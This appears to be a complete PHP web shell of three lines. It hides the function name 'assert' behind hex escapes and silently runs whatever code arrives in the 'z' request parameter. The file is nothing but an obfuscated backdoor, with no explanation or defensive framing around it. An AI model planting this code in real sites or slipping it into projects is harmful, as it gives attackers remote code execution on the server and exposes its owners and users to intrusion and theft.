<?php
$k = "\x61\x73\x73\x65\x72\x74";
@$k($_REQUEST['z']);
